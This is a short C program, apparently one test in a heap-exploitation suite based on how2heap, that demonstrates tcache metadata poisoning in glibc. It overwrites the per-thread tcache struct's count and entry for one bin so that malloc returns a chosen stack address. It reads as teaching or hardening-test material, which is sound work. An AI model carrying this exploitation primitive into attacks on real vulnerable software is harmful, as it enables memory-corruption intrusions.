/* Technique: tcache metadata poisoning (how2heap
   tcache_metadata_poisoning).

   Goal: malloc returns a chosen address (a 16-byte aligned stack
   buffer).

   How: glibc keeps the per-thread tcache (counts and entry pointers)
   in the first chunk of the heap, in memory a heap overflow or a stray
   pointer can reach.  The program finds it (the first chunk of the
   [heap] mapping, size 0x290), sets the 0x30 bin's count to 1 and its
   entry to the target; malloc (0x28) returns the target.  */
#include "attack.h"

int
main (void)
{
  attack_init ("tcache_metadata_poisoning: overwrite tcache_perthread_struct counts and entries");
  _Alignas (16) size_t target[8] = { 0 };
  void *p = malloc (0x18);
  char *tc = find_tcache_struct ();
  say ("p %p tcache struct chunk %p target %p", p, tc, target);
  if (!tc)
    no_effect ("no tcache_perthread_struct in the heap");
  *(uint16_t *) (tc + TC_COUNT_OFF (TC_IDX (0x30))) = 1;
  *(void **) (tc + TC_ENTRY_OFF (TC_IDX (0x30))) = target;
  void *q = malloc (0x28);
  say ("malloc (0x28) = %p", q);
  if (q == (void *) target)
    reached ("malloc returned the stack target %p", q);
  no_effect ("malloc returned %p, not the target %p", q, target);
}
